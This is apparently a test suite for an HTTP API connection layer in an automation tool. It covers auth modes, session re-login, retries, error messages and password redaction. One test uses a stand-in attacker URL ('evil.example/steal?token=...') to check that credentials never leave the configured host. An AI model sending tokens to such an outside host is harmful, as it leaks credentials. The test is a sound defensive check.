/**
 * The HTTP connection against real local servers: auth modes, sessions and
 * re-login, retries and backoff, accepted statuses, error shaping, and what
 * happens when the API cannot be reached.
 */
import { afterEach, describe, expect, it } from 'vitest';
import { InterruptedError, ModuleFailure, UnreachableError } from '../../../../src/engine/errors.js';
import { Secret } from '../../../../src/engine/secret.js';
import { HttpError, HttpUnreachableError, NoShellError, openHttpConnection, type HttpFactoryOptions } from '../../../../src/engine/transport/http/index.js';
import type { HttpConnection } from '../../../../src/engine/transport/http/index.js';
import { closedPort, startApiServer, type ApiServer, type Handler } from './api-server.js';
import { nsxSessions } from './nsx-session-api.js';
import { stringMatching } from '../../../helpers/matchers.js';

const PASSWORD = 'Vault-Only-Pa55!';
const open: { close(): Promise<void> }[] = [];

afterEach(async () => {
  await Promise.allSettled(open.splice(0).map((c) => c.close()));
});

async function server(handler: Handler): Promise<ApiServer> {
  const s = await startApiServer(handler);
  open.push(s);
  return s;
}

async function connect(vars: Record<string, unknown>, opts: HttpFactoryOptions = {}): Promise<HttpConnection> {
  const c = await openHttpConnection({ host: 'api1', connection: 'http', address: 'api1', vars: { tsplay_http_retry_delay: 0.01, tsplay_http_retry_max_delay: 0.05, ...vars } }, opts);
  open.push(c);
  return c;
}

async function failure(p: Promise<unknown>): Promise<Error> {
  try {
    await p;
  } catch (e) {
    return e as Error;
  }
  throw new Error('expected a failure');
}

describe('basic auth and requests', () => {
  it('sends basic credentials, joins the base path, encodes the query and JSON, parses JSON answers', async () => {
    const s = await server(() => ({ status: 200, body: { results: [{ id: 'a' }], result_count: 1 } }));
    const c = await connect({ tsplay_http_url: `${s.url}/base/`, tsplay_http_user: 'admin', tsplay_http_password: new Secret(PASSWORD) });
    const r = await c.http.get('/policy/api/v1/infra/services', { query: { page_size: 2, names: ['n1', 'n2'] } });
    expect(r).toMatchObject({ status: 200, data: { results: [{ id: 'a' }], result_count: 1 } });
    const seen = s.requests[0]!;
    expect(seen.path).toBe('/base/policy/api/v1/infra/services');
    expect(seen.query.getAll('names')).toEqual(['n1', 'n2']);
    expect(seen.headers.authorization).toBe(`Basic ${Buffer.from(`admin:${PASSWORD}`).toString('base64')}`);

    await c.http.request({ method: 'PATCH', path: 'policy/x', body: { display_name: 'x' } });
    expect(s.requests[1]).toMatchObject({ method: 'PATCH', path: '/base/policy/x', body: '{"display_name":"x"}' });
    expect(s.requests[1]!.headers['content-type']).toBe('application/json');
  });

  it('falls back to ansible_user / ansible_password and sends a string body as it is', async () => {
    const s = await server(() => ({ status: 200, headers: { 'content-type': 'text/xml' }, body: '<ok/>' }));
    const c = await connect({ tsplay_http_url: s.url, ansible_password: PASSWORD }, {});
    // ansible_user arrives through ConnectionSettings.user
    const c2 = await openHttpConnection({ host: 'api1', connection: 'http', address: 'api1', user: 'ops', vars: { tsplay_http_url: s.url, ansible_password: PASSWORD } });
    open.push(c2);
    const r = await c2.http.read({ method: 'POST', path: '/sdk', body: '<x/>', headers: { 'Content-Type': 'text/xml' } });
    expect(r.data).toBe('<ok/>');
    expect(s.requests[0]!.headers.authorization).toBe(`Basic ${Buffer.from(`ops:${PASSWORD}`).toString('base64')}`);
    expect(s.requests[0]!.headers['content-type']).toBe('text/xml');
    // no user at all: auth defaults to none
    await c.http.get('/x');
    expect(s.requests[1]!.headers.authorization).toBeUndefined();
  });

  it('refuses an absolute URL as a path (credentials would go elsewhere)', async () => {
    const s = await server(() => ({ status: 200 }));
    const c = await connect({ tsplay_http_url: s.url, tsplay_http_user: 'admin', tsplay_http_password: PASSWORD });
    const e = await failure(c.http.get('https://evil.example/steal?token=abc'));
    expect(e.message).toBe('GET: the request path must be relative to tsplay_http_url (credentials are only sent there), found https://evil.example/steal?token=***');
    expect(await failure(c.http.get('//evil.example/x'))).toBeInstanceOf(ModuleFailure);
    expect(s.requests).toHaveLength(0);
  });

  it('a 401 under basic auth makes the host unreachable (wrong credentials), the password not in the message', async () => {
    const s = await server(() => ({ status: 401, body: { error_code: 403, error_message: 'The credentials were incorrect' } }));
    const c = await connect({ tsplay_http_url: s.url, tsplay_http_user: 'admin', tsplay_http_password: PASSWORD });
    const e = await failure(c.http.get('/api/v1/node'));
    expect(e).toBeInstanceOf(HttpUnreachableError);
    expect(e).toMatchObject({ failure: 'auth' });
    expect(e.message).toContain('The credentials were incorrect');
    expect(s.requests).toHaveLength(1);
  });
});

describe('nsx_session auth', () => {
  const vars = (url: string) => ({ tsplay_http_url: url, tsplay_http_auth: 'nsx_session', tsplay_http_user: 'admin', tsplay_http_password: new Secret(PASSWORD) });

  it('logs in on connect with the form, then sends the JSESSIONID cookie and the XSRF token', async () => {
    const nsx = nsxSessions('admin', PASSWORD, () => ({ status: 200, body: { ok: true } }));
    const s = await server(nsx.handler);
    const c = await connect(vars(s.url));
    expect(nsx.logins()).toBe(1);
    expect(s.requests[0]!.body).toBe(new URLSearchParams({ j_username: 'admin', j_password: PASSWORD }).toString());
    const r = await c.http.get('/policy/api/v1/infra');
    expect(r.data).toEqual({ ok: true });
    expect(s.requests[1]!.headers.cookie).toMatch(/^JSESSIONID=/);
    expect(s.requests[1]!.headers['x-xsrf-token']).toBeTruthy();
    expect(s.requests[1]!.headers.authorization).toBeUndefined();
  });

  it('logs in again once when the server expires the session (401), and on 403 error_code 98', async () => {
    const nsx = nsxSessions('admin', PASSWORD, () => ({ status: 200, body: { ok: true } }));
    const s = await server(nsx.handler);
    const c = await connect(vars(s.url));
    nsx.expireAll();
    expect((await c.http.request({ method: 'PATCH', path: '/policy/api/v1/infra', body: {} })).status).toBe(200);
    expect(nsx.logins()).toBe(2);
    nsx.breakXsrfOnce();
    expect((await c.http.get('/policy/api/v1/infra')).status).toBe(200);
    expect(nsx.logins()).toBe(3);
    // several requests in flight when the session ends: one login serves them all
    nsx.expireAll();
    const all = await Promise.all([1, 2, 3, 4].map((i) => c.http.get(`/policy/api/v1/infra/x${i}`)));
    expect(all.map((r) => r.status)).toEqual([200, 200, 200, 200]);
    expect(nsx.logins()).toBe(4);
  });

  it('ends the session on close, and does not wait long for a manager that never answers the logout', async () => {
    const nsx = nsxSessions('admin', PASSWORD, () => ({ status: 200, body: {} }));
    let hang = false;
    const s = await server((req, i) => (hang && req.path === '/api/session/destroy' ? new Promise<null>(() => undefined) : nsx.handler(req, i)));
    const c = await connect(vars(s.url));
    await c.close();
    expect(s.requests.at(-1)).toMatchObject({ method: 'POST', path: '/api/session/destroy' });

    hang = true;
    const c2 = await connect(vars(s.url), { logoutWaitMs: 200 });
    const t0 = performance.now();
    await c2.close();
    expect(performance.now() - t0).toBeLessThan(5_000);
    expect(s.requests.at(-1)).toMatchObject({ method: 'POST', path: '/api/session/destroy' });
  });

  it('re-logs in only once per request: a session refused right after login is an auth failure', async () => {
    let logins = 0;
    const s = await server((req) => {
      if (req.path === '/api/session/create') {
        logins++;
        return { status: 200, headers: { 'set-cookie': `JSESSIONID=s${logins}`, 'x-xsrf-token': 't' } };
      }
      return { status: 401, body: { error_code: 401, error_message: 'session rejected' } };
    });
    const c = await connect(vars(s.url));
    const e = await failure(c.http.get('/policy/api/v1/infra'));
    expect(e).toBeInstanceOf(HttpUnreachableError);
    expect(logins).toBe(2);
    expect(s.requests.filter((r) => r.path === '/policy/api/v1/infra')).toHaveLength(2);
  });

  it('wrong credentials: the connection fails as unreachable with the API message, without the password', async () => {
    const nsx = nsxSessions('admin', 'the-right-one', () => ({ status: 200 }));
    const s = await server(nsx.handler);
    const e = await failure(connect(vars(s.url)));
    expect(e).toBeInstanceOf(UnreachableError);
    expect(e).toMatchObject({ failure: 'auth' });
    expect(e.message).toMatch(/NSX session login as 'admin' was refused \(403\): Not Authenticated/);
    expect(e.message).not.toContain(PASSWORD);
  });
});

describe('retries', () => {
  it('a 429 storm, then success: every attempt counted, waits bounded by the maximum delay', async () => {
    const s = await server((_req, i) => (i < 4 ? { status: 429, body: { error_code: 429, error_message: 'Too many requests' } } : { status: 200, body: { ok: 1 } }));
    const c = await connect({ tsplay_http_url: s.url, tsplay_http_retries: 5, tsplay_http_retry_delay: 0.02, tsplay_http_retry_max_delay: 0.06 });
    const r = await c.http.request({ method: 'POST', path: '/api/v1/x', body: {} });
    expect(r.status).toBe(200);
    expect(s.requests).toHaveLength(5);
    const gaps = s.requests.slice(1).map((q, i) => q.at - s.requests[i]!.at);
    for (const g of gaps) {
      expect(g).toBeGreaterThanOrEqual(15); // at least 0.8 x 20 ms
      expect(g).toBeLessThan(60 + 150); // at most the maximum, plus scheduling slack
    }
  });

  it('honours Retry-After on 503', async () => {
    const s = await server((_req, i) => (i === 0 ? { status: 503, headers: { 'retry-after': '1' }, body: 'busy' } : { status: 200, body: { ok: 1 } }));
    const c = await connect({ tsplay_http_url: s.url });
    expect((await c.http.get('/x')).status).toBe(200);
    expect(s.requests[1]!.at - s.requests[0]!.at).toBeGreaterThanOrEqual(950);
  });

  it('gives up after the configured retries with a clear error naming the attempts', async () => {
    const s = await server(() => ({ status: 503, body: { error_code: 503, error_message: 'Service unavailable' } }));
    const c = await connect({ tsplay_http_url: s.url, tsplay_http_retries: 2 });
    const e = await failure(c.http.get('/policy/api/v1/infra/segments'));
    expect(s.requests).toHaveLength(3);
    expect(e).toBeInstanceOf(HttpError);
    expect(e).toMatchObject({ status: 503, attempts: 3, code: 'E_HTTP' });
    expect(e.message).toBe(`GET ${s.url}/policy/api/v1/infra/segments failed with 503 Service Unavailable after 3 attempts: Service unavailable (503)`);
    expect(e).toMatchObject({ hint: stringMatching(/tsplay_http_retries/) });
  });

  it('412 and 409 go back to the caller when accepted, and are never retried blindly', async () => {
    const s = await server((req) =>
      req.path.endsWith('stale')
        ? { status: 412, body: { error_code: 604, error_message: 'The object was modified by somebody else' } }
        : { status: 409, body: { error_code: 500045, error_message: 'conflict' } },
    );
    const c = await connect({ tsplay_http_url: s.url });
    const r = await c.http.request({ method: 'PATCH', path: '/stale', body: {}, accept: [412] });
    expect(r).toMatchObject({ status: 412, data: { error_code: 604 } });
    const e = await failure(c.http.request({ method: 'PUT', path: '/conflict', body: {} }));
    expect(e).toMatchObject({ status: 409, apiCode: 500045 });
    expect(s.requests).toHaveLength(2);
  });

  it('a dropped connection is retried for GET, not for POST', async () => {
    const s = await server((_req, i) => (i === 0 ? null : { status: 200, body: { ok: 1 } }));
    const c = await connect({ tsplay_http_url: s.url });
    expect((await c.http.get('/x')).status).toBe(200);
    expect(s.requests).toHaveLength(2);
    s.handler = () => null;
    const e = await failure(c.http.request({ method: 'POST', path: '/y', body: {} }));
    expect(e).toBeInstanceOf(HttpUnreachableError);
    expect(e).toMatchObject({ failure: 'reset' });
    expect(s.requests).toHaveLength(3);
  });
});

describe('errors', () => {
  const cases: { name: string; reply: { status: number; headers?: Record<string, string>; body?: unknown }; message: string }[] = [
    {
      name: 'NSX error body with related errors',
      reply: { status: 400, body: { error_code: 500012, error_message: 'Invalid rule', module_name: 'Policy', related_errors: [{ error_code: 1, error_message: 'source group not found' }] } },
      message: 'failed with 400 Bad Request: Invalid rule (source group not found) (500012)',
    },
    {
      name: 'SOAP fault',
      reply: {
        status: 500,
        headers: { 'content-type': 'text/xml' },
        body: '<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><soapenv:Fault><faultcode>ServerFaultCode</faultcode><faultstring>The name &apos;cp-1&apos; already exists.</faultstring><detail><DuplicateNameFault xmlns="urn:vim25" xsi:type="DuplicateName"></DuplicateNameFault></detail></soapenv:Fault></soapenv:Body></soapenv:Envelope>',
      },
      message: "failed with 500 Internal Server Error: The name 'cp-1' already exists. (DuplicateName)",
    },
    { name: 'vSphere REST error', reply: { status: 404, body: { error_type: 'NOT_FOUND', messages: [{ id: 'x', default_message: 'VM not found' }] } }, message: 'failed with 404 Not Found: VM not found (NOT_FOUND)' },
    { name: 'plain text', reply: { status: 502, headers: { 'content-type': 'text/plain' }, body: '  upstream\n gone  ' }, message: 'failed with 502 Bad Gateway: upstream gone' },
    { name: 'no body', reply: { status: 404 }, message: 'failed with 404 Not Found' },
  ];
  it.each(cases)('$name', async ({ reply, message }) => {
    const s = await server(() => reply);
    const c = await connect({ tsplay_http_url: s.url, tsplay_http_user: 'admin', tsplay_http_password: PASSWORD });
    const e = await failure(c.http.get('/some/path', { query: { password: PASSWORD, api_token: 'tok-123456', page_size: 5 } }));
    expect(e).toBeInstanceOf(HttpError);
    expect(e.message).toBe(`GET ${s.url}/some/path?password=***&api_token=***&page_size=5 ${message}`);
  });

  it('the password never appears in an error, even when the API echoes it', async () => {
    const s = await server(() => ({ status: 400, body: { error_code: 1, error_message: `bad password ${PASSWORD} for admin` } }));
    const c = await connect({ tsplay_http_url: s.url, tsplay_http_user: 'admin', tsplay_http_password: new Secret(PASSWORD) });
    const e = await failure(c.http.get('/x'));
    expect(e.message).toBe(`GET ${s.url}/x failed with 400 Bad Request: bad password ******** for admin (1)`);
    expect(JSON.stringify({ ...Object.fromEntries(Object.entries(e)), message: e.message })).not.toContain(PASSWORD);
  });

  it('no error, hint, error field or log line ever holds the password, the basic token or a session token', async () => {
    const basic = Buffer.from(`admin:${PASSWORD}`).toString('base64');
    // the password as the login form sends it too (URL-encoded: ! is %21)
    const tokens = new Set<string>([PASSWORD, basic, new URLSearchParams({ p: PASSWORD }).toString().slice(2)]);
    const texts: string[] = [];
    const log = (_host: string, line: string) => texts.push(line);
    const record = (e: Error) => texts.push(e.message, String((e as { hint?: string }).hint), JSON.stringify(e), String(e.stack));
    const echo = (req: { headers: Record<string, unknown>; body: string }) =>
      `you sent ${JSON.stringify(req.headers)} and ${req.body} (password ${PASSWORD})`;
    let logins = 0;
    const nsx = await server((req) => {
      if (req.path === '/api/session/create') {
        const sid = `sid-${++logins}-0123456789`;
        tokens.add(sid);
        tokens.add(`xsrf-${logins}-abcdef`);
        return logins === 1 ? { status: 200, headers: { 'set-cookie': `JSESSIONID=${sid}`, 'x-xsrf-token': `xsrf-${logins}-abcdef` } } : { status: 403, body: { error_code: 403, error_message: echo(req) } };
      }
      return { status: 401, body: { error_code: 401, error_message: echo(req) } };
    });
    const plain = await server((req) => ({ status: 400, body: echo(req) }));
    const basicConn = await connect({ tsplay_http_url: plain.url, tsplay_http_user: 'admin', tsplay_http_password: new Secret(PASSWORD) }, { log });
    record(await failure(basicConn.http.request({ method: 'POST', path: '/x', query: { password: PASSWORD }, body: { password: PASSWORD } })));
    const session = await connect({ tsplay_http_url: nsx.url, tsplay_http_auth: 'nsx_session', tsplay_http_user: 'admin', tsplay_http_password: new Secret(PASSWORD) }, { log });
    record(await failure(session.http.get('/policy/api/v1/infra')));
    const port = await closedPort();
    const dead = await connect({ tsplay_http_url: `http://127.0.0.1:${port}`, tsplay_http_user: 'admin', tsplay_http_password: new Secret(PASSWORD) }, { log });
    record(await failure(dead.http.get('/x', { query: { token: PASSWORD } })));
    expect(logins).toBe(2);
    expect(texts.length).toBeGreaterThan(10);
    for (const text of texts) for (const t of tokens) expect(text).not.toContain(t);
  });

  it('session headers never reach the caller', async () => {
    const s = await server(() => ({ status: 200, headers: { 'set-cookie': 'JSESSIONID=abc', 'x-xsrf-token': 'tok', 'x-other': '1' }, body: {} }));
    const c = await connect({ tsplay_http_url: s.url });
    const r = await c.http.get('/x');
    expect(r.headers['x-other']).toBe('1');
    expect(r.headers['set-cookie']).toBeUndefined();
    expect(r.headers['x-xsrf-token']).toBeUndefined();
  });

  it('a closed port is unreachable (refused)', async () => {
    const port = await closedPort();
    const c = await connect({ tsplay_http_url: `http://127.0.0.1:${port}`, tsplay_http_user: 'admin', tsplay_http_password: PASSWORD });
    const e = await failure(c.http.get('/x'));
    expect(e).toBeInstanceOf(UnreachableError);
    expect(e).toMatchObject({ failure: 'refused', host: 'api1' });
    expect(e.message).toBe(`api1: connection refused by http://127.0.0.1:${port}/x`);
    // session auth connects (logs in) when the connection opens, so the host fails there
    const e2 = await failure(connect({ tsplay_http_url: `http://127.0.0.1:${port}`, tsplay_http_auth: 'nsx_session', tsplay_http_user: 'admin', tsplay_http_password: PASSWORD }));
    expect(e2).toMatchObject({ failure: 'refused' });
  });

  it('no answer within tsplay_http_timeout is unreachable (timeout), after the retries of a GET', async () => {
    const s = await server(() => new Promise(() => {}));
    const c = await connect({ tsplay_http_url: s.url, tsplay_http_timeout: 0.2, tsplay_http_retries: 1 });
    const e = await failure(c.http.get('/slow'));
    expect(e).toMatchObject({ failure: 'timeout' });
    expect(e.message).toContain('within 0.2 s');
    expect(s.requests).toHaveLength(2);
  });

  it('Ctrl-C ends a request in flight and a wait between retries at once', async () => {
    const s = await server((req) => (req.path === '/hang' ? new Promise(() => {}) : { status: 503, headers: { 'retry-after': '30' } }));
    for (const path of ['/hang', '/busy']) {
      const ac = new AbortController();
      const c = await connect({ tsplay_http_url: s.url }, { signal: ac.signal });
      const t0 = Date.now();
      const p = failure(c.http.get(path));
      setTimeout(() => ac.abort(), 200);
      const e = await p;
      expect(e).toBeInstanceOf(InterruptedError);
      expect(e.message).toBe(`GET ${s.url}${path}: interrupted`);
      expect(Date.now() - t0).toBeLessThan(2000);
    }
  });

  it('shell operations on an http host fail clearly', async () => {
    const s = await server(() => ({ status: 200 }));
    const c = await connect({ tsplay_http_url: s.url });
    for (const p of [c.exec('uname -a'), c.put('/etc/x', Buffer.from('')), c.get('/etc/x')]) {
      const e = await failure(p);
      expect(e).toBeInstanceOf(NoShellError);
      expect(e.message).toMatch(/^host 'api1' is an HTTP API endpoint \(tsplay_connection: http\); shell modules can't run on it/);
    }
    expect(c.shell).toBe(false);
  });
});
